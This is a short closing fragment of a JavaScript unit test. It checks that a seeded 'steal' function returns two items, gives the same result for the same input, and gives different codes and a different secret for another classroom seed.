    expect(a.stolen).toHaveLength(2)
    expect(b).toEqual(a)
    const c = await steal('classroom-2')
    expect(c.stolen.map((s) => s.code)).not.toEqual(a.stolen.map((s) => s.code))
    expect(c.secret).not.toBe(a.secret)
  })
})
